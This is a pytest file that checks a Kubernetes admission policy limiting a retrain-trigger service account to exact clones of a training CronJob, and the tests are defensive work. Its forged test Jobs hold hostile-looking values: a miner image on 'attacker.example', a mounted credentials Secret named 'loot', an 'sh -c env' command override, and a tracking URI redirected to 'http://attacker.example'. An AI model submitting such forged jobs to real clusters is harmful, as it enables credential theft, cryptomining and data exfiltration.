"""The API server enforces what the retrain trigger may create: clones of the retraining CronJob only.

A real kube-apiserver (v1.33) evaluates the stack's ValidatingAdmissionPolicy. Requests are made as the
trigger's service account (impersonation by the cluster admin, as `kubectl --as` does): the trigger's own
code clones the CronJob and is admitted; forged Jobs (another image, a Secret mounted, another service
account, an extra command) are refused with the policy's message. The same forgery by the admin (not the
trigger) is not this policy's business and is admitted.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.rest import ApiException

from engine.cluster import api_client
from services.retrain_trigger.backends import KubernetesBackend
from services.retrain_trigger.episodes import Episode
from tests.engine.conftest import EngineStack

pytestmark = pytest.mark.engine

CRONJOB = "training-retrain"


@pytest.fixture(scope="module")
def stack(stack_factory: Any) -> EngineStack:
    deployed: EngineStack = stack_factory("adm")
    deployed.up()
    return deployed


def as_trigger(stack: EngineStack) -> client.BatchV1Api:
    """The batch API as system:serviceaccount:<ns>:retrain-trigger (its Role and the policy apply)."""
    api = api_client(stack.cluster)
    user = f"system:serviceaccount:{stack.namespace}:retrain-trigger"
    api.set_default_header("Impersonate-User", user)
    return client.BatchV1Api(api)


def clone(stack: EngineStack, name: str) -> client.V1Job:
    """A Job exactly as the trigger builds it (its template from the live CronJob)."""
    cron = client.BatchV1Api(stack.api()).read_namespaced_cron_job(CRONJOB, stack.namespace)
    template = cron.spec.job_template
    return client.V1Job(
        api_version="batch/v1",
        kind="Job",
        metadata=client.V1ObjectMeta(name=name, labels=dict(template.metadata.labels or {})),
        spec=copy.deepcopy(template.spec),
    )


def denied(stack: EngineStack, job: client.V1Job) -> str:
    with pytest.raises(ApiException) as info:
        as_trigger(stack).create_namespaced_job(stack.namespace, job, dry_run="All")
    assert info.value.status in {403, 422}, info.value.body
    return str(info.value.body)


def test_the_trigger_s_own_clone_is_admitted_and_the_cap_holds(stack: EngineStack) -> None:
    backend = KubernetesBackend(stack.namespace, CRONJOB, batch_api=as_trigger(stack))
    episode = Episode("FeatureDrift", "fingerprint", "2026-11-29T10:00:00Z")
    name = backend.start(episode)
    job = client.BatchV1Api(stack.api()).read_namespaced_job(name, stack.namespace)
    assert job.metadata.owner_references[0].name == CRONJOB
    # Another episode while that Job runs is refused by the trigger itself (it may list Jobs).
    from services.retrain_trigger.backends import AtCapacity

    if not (job.status.succeeded or job.status.failed):
        with pytest.raises(AtCapacity):
            backend.start(Episode("FeatureDrift", "other", "2026-11-29T11:00:00Z"))


def test_a_job_with_another_image_is_refused(stack: EngineStack) -> None:
    job = clone(stack, "forged-image")
    job.spec.template.spec.containers[0].image = "attacker.example/miner:latest"
    assert "exactly the retraining CronJob's container image" in denied(stack, job)


def test_a_job_mounting_a_secret_is_refused(stack: EngineStack) -> None:
    job = clone(stack, "forged-secret")
    pod = job.spec.template.spec
    pod.volumes = [
        *(pod.volumes or []),
        client.V1Volume(name="loot", secret=client.V1SecretVolumeSource(secret_name="mlflow-credentials")),
    ]
    assert "only the retraining CronJob's volumes" in denied(stack, job)


def test_a_job_writing_to_the_training_data_claim_is_refused(stack: EngineStack) -> None:
    job = clone(stack, "forged-writer")
    mounts = job.spec.template.spec.containers[0].volume_mounts
    data = next(m for m in mounts if m.name == "training-data")
    data.read_only = False
    assert "data claims read-only" in denied(stack, job)


def test_a_job_with_another_service_account_or_command_or_labels_is_refused(stack: EngineStack) -> None:
    account = clone(stack, "forged-account")
    account.spec.template.spec.service_account_name = "prometheus"
    assert "service account" in denied(stack, account)
    command = clone(stack, "forged-command")
    command.spec.template.spec.containers[0].command = ["sh", "-c", "env"]
    assert "must not override the training command" in denied(stack, command)
    labelled = clone(stack, "forged-labels")
    labelled.spec.template.metadata.labels["app.kubernetes.io/name"] = "serving"
    assert "pod labels must be exactly" in denied(stack, labelled)
    env = clone(stack, "forged-env")
    container = env.spec.template.spec.containers[0]
    container.env = [
        client.V1EnvVar(
            name=v.name,
            value="http://attacker.example" if v.name == "MLFLOW_TRACKING_URI" else v.value,
            value_from=v.value_from,
        )
        for v in container.env
    ]
    assert "environment must be the retraining CronJob's" in denied(stack, env)


def test_the_policy_binds_only_the_trigger(stack: EngineStack) -> None:
    job = clone(stack, "admin-made")
    job.spec.template.spec.containers[0].image = "registry.example/other:1"
    created = client.BatchV1Api(stack.api()).create_namespaced_job(stack.namespace, job, dry_run="All")
    assert created.metadata.name == "admin-made"


def test_the_namespace_has_its_quota_and_limits(stack: EngineStack) -> None:
    core = client.CoreV1Api(stack.api())
    quota = core.read_namespaced_resource_quota("mlops-quota", stack.namespace)
    assert quota.spec.hard["count/jobs.batch"] == "30"
    pod = client.V1Pod(
        metadata=client.V1ObjectMeta(name="too-big"),
        spec=client.V1PodSpec(
            security_context=client.V1PodSecurityContext(
                run_as_non_root=True,
                run_as_user=10001,
                seccomp_profile=client.V1SeccompProfile(type="RuntimeDefault"),
            ),
            containers=[
                client.V1Container(
                    name="c",
                    image="registry.example/x@sha256:" + "0" * 64,
                    resources=client.V1ResourceRequirements(limits={"cpu": "8", "memory": "1Gi"}),
                    security_context=client.V1SecurityContext(
                        allow_privilege_escalation=False,
                        capabilities=client.V1Capabilities(drop=["ALL"]),
                    ),
                )
            ],
        ),
    )
    with pytest.raises(ApiException) as info:
        core.create_namespaced_pod(stack.namespace, pod, dry_run="All")
    assert "maximum cpu usage per Container is 2" in str(info.value.body)


def test_the_policy_and_binding_are_owned_by_the_namespace(stack: EngineStack) -> None:
    """Cluster-scoped, so a deleted preview namespace would leave them behind without this owner."""
    namespace = client.CoreV1Api(stack.api()).read_namespace(stack.namespace)
    admission = client.AdmissionregistrationV1Api(stack.api())
    name = f"mlops-retrain-clones-{stack.namespace}"
    for obj in (
        admission.read_validating_admission_policy(name),
        admission.read_validating_admission_policy_binding(name),
    ):
        owners = obj.metadata.owner_references or []
        assert [(o.kind, o.name, o.uid) for o in owners] == [
            ("Namespace", stack.namespace, namespace.metadata.uid)
        ]
